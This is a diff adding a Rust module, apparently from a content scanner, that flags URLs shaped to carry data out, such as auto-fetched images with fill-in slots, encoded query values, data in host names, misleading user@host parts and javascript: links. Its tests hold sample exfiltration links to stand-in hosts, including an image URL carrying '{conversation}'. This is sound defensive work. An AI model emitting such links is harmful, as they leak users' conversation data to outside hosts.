@@ -1,0 +1,174 @@
+//! Addresses that carry data away: what a reader's program fetches by itself, or a click would send.
+//!
+//! It names shapes, not hosts: whether a host is trusted is the policy's to know.
+
+use std::ops::Range;
+
+/// Longest address that is looked at.
+const URL_MOST: usize = 2048;
+/// Most addresses of one text.
+const URLS_MOST: usize = 2000;
+/// A value in a query that is this long may carry data.
+const VALUE_LEAST: usize = 24;
+
+/// Finds them: where, which shape, and how sure in thousandths.
+#[must_use]
+pub fn find(text: &str) -> Vec<(Range<usize>, &'static str, u16)> {
+    let bytes = text.as_bytes();
+    let mut found = Vec::new();
+    for at in memchr::memmem::find_iter(bytes, b"://").take(URLS_MOST) {
+        let scheme = bytes[..at]
+            .iter()
+            .rev()
+            .take(12)
+            .take_while(|byte| byte.is_ascii_alphanumeric())
+            .count();
+        let start = at - scheme;
+        let ends = |byte: &u8| {
+            byte.is_ascii_whitespace()
+                || matches!(byte, b'"' | b'\'' | b'<' | b'>' | b')' | b'`' | b'\\' | b'|')
+        };
+        let length = bytes[at..]
+            .iter()
+            .take(URL_MOST)
+            .take_while(|byte| !ends(byte))
+            .count();
+        let end = text.floor_char_boundary(at + length);
+        if scheme == 0 || at + 3 >= end {
+            continue;
+        }
+        let Some(rest) = text.get(at + 3..end) else {
+            continue;
+        };
+        let fetched = is_image(text, start);
+        if let Some((what, score)) = judge(rest, fetched) {
+            found.push((start..end, what, score));
+        }
+    }
+    for (at, what) in [
+        (memchr::memmem::find(bytes, b"](javascript:"), "script_link"),
+        (memchr::memmem::find(bytes, b"](data:text/html"), "data_link"),
+    ] {
+        if let Some(at) = at {
+            found.push((at + 2..at + 13, what, 800));
+        }
+    }
+    found
+}
+
+/// Whether the address at `start` is an image's, which programs fetch unasked.
+fn is_image(text: &str, start: usize) -> bool {
+    let from = text.ceil_char_boundary(start.saturating_sub(200));
+    let before = text.get(from..start).unwrap_or_default();
+    let markdown = before.ends_with("](")
+        && before
+            .rfind("![")
+            .is_some_and(|at| before.get(at..).is_some_and(|part| !part.contains('\n')));
+    let tag = before
+        .rfind('<')
+        .and_then(|at| before.get(at..))
+        .is_some_and(|tag| {
+            let tag = tag.to_ascii_lowercase();
+            (tag.starts_with("<img")
+                || tag.starts_with("<iframe")
+                || tag.starts_with("<link")
+                || tag.starts_with("<object"))
+                && !tag.contains('>')
+        });
+    markdown || tag || before.trim_end().ends_with("url(")
+}
+
+fn judge(rest: &str, fetched: bool) -> Option<(&'static str, u16)> {
+    let (place, query) = rest.split_at(rest.find(['?', '#']).unwrap_or(rest.len()));
+    let (host, path) = place.split_at(place.find('/').unwrap_or(place.len()));
+    let slot = |text: &str| {
+        let lower = text.to_ascii_lowercase();
+        ["{", "[", "%7b", "<", "$("]
+            .iter()
+            .any(|open| lower.contains(open))
+            || ["your_", "secret_here", "data_here", "insert"]
+                .iter()
+                .any(|word| lower.contains(word))
+    };
+    // An address with a place to fill in asks its reader to fill it.
+    if fetched && (slot(query) || slot(path)) {
+        return Some(("image_with_slot", 900));
+    }
+    if host.split('.').any(|label| label.len() >= 32 && dense(label)) {
+        return Some(("data_in_host_name", 700));
+    }
+    let carries = query
+        .split(['&', '?', '#', ';'])
+        .filter_map(|pair| pair.split_once('='))
+        .any(|(_, value)| {
+            value.len() >= VALUE_LEAST && (dense(value) || value.contains("%20") || value.contains('+'))
+        });
+    if fetched && (carries || query.len() >= 48) {
+        return Some(("image_with_data", 700));
+    }
+    if fetched
+        && path
+            .split('/')
+            .any(|part| part.len() >= 40 && dense(part) && !part.contains('.'))
+    {
+        return Some(("image_with_data", 450));
+    }
+    if host.contains('@') {
+        return Some(("misleading_user_part", 600));
+    }
+    None
+}
+
+/// Long, without spaces, and of encoded look.
+fn dense(text: &str) -> bool {
+    let digits = text.bytes().filter(u8::is_ascii_digit).count();
+    let fine = text
+        .bytes()
+        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_' | b'%'));
+    fine && digits >= 2 && crate::secrets::entropy(text) >= 3.0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn shapes_that_carry_data() {
+        let what = |text: &str| {
+            find(text)
+                .into_iter()
+                .map(|(_, what, _)| what)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            what("![x](https://a.example/p.png?d={conversation})"),
+            ["image_with_slot"]
+        );
+        assert_eq!(
+            what("![x](https://a.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ)"),
+            ["image_with_data"]
+        );
+        assert_eq!(
+            what("<img alt='x' src=\"https://a.example/p?q=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ\">"),
+            ["image_with_data"]
+        );
+        assert_eq!(
+            what("http://5f4dcc3b5aa765d61d8327deb882cf99aa11.a.example/"),
+            ["data_in_host_name"]
+        );
+        assert_eq!(
+            what("see https://www.example.com@evil.example/login"),
+            ["misleading_user_part"]
+        );
+        assert_eq!(what("[x](javascript:alert(1))"), ["script_link"]);
+        for text in [
+            "https://example.com/search?q=rust",
+            "![logo](https://example.com/logo.png)",
+            "[a](https://example.com/a?b=c)",
+            "x://",
+            "://",
+        ] {
+            assert_eq!(what(text), [""; 0], "{text}");
+        }
+    }
+}
